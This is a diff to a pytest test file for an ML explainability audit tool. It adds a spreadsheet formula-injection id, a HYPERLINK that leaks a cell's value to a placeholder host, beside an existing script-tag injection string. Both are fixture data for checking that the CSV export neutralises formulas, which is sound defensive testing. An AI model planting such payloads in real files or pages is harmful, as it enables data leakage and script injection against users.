@@ -25,6 +25,7 @@ from mlflow_xai.viz import SIGNS, attribution_sheet, colour_limits, heat_rgba, s
 
 PNG = b"\x89PNG\r\n\x1a\n"
 HOSTILE_ID = '<script>alert("x")</script>&'
+FORMULA_ID = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
 CONFIG = {
     "batch_size": 16,
     "methods": {
@@ -50,7 +51,7 @@ def _tiny_cnn() -> nn.Module:
 @pytest.fixture(scope="module")
 def image_audit(tmp_path_factory):
     data = make_shapes(24, size=16, seed=5)
-    ids = np.array([f"s{i:02d}" for i in range(23)] + [HOSTILE_ID])
+    ids = np.array([f"s{i:02d}" for i in range(22)] + [FORMULA_ID, HOSTILE_ID])
     probe = ProbeSet(data.images, data.labels, data.masks, ids)
     report = audit(_tiny_cnn(), probe, CONFIG)
     folder = write_artifacts(report, tmp_path_factory.mktemp("xai"))
@@ -114,7 +115,10 @@ def test_summary_json_and_per_sample_csv_agree_with_metrics(image_audit):
 
     with open(folder / "per_sample.csv", newline="") as fh:
         rows = list(csv.DictReader(fh))
-    assert [r["id"] for r in rows] == report.probe.ids.tolist()
+    # Ids a spreadsheet would run as formulas get a leading quote in the CSV, and only there.
+    expected = [("'" + i) if i == FORMULA_ID else i for i in report.probe.ids.tolist()]
+    assert [r["id"] for r in rows] == expected
+    assert FORMULA_ID in report.probe.ids.tolist() and summary["metrics"] == metrics
     assert [int(r["label"]) for r in rows] == report.probe.labels.tolist()
     assert [int(r["prediction"]) for r in rows] == report.predictions.tolist()
     errors = np.array([float(r["integrated_gradients/completeness_rel_error"]) for r in rows])
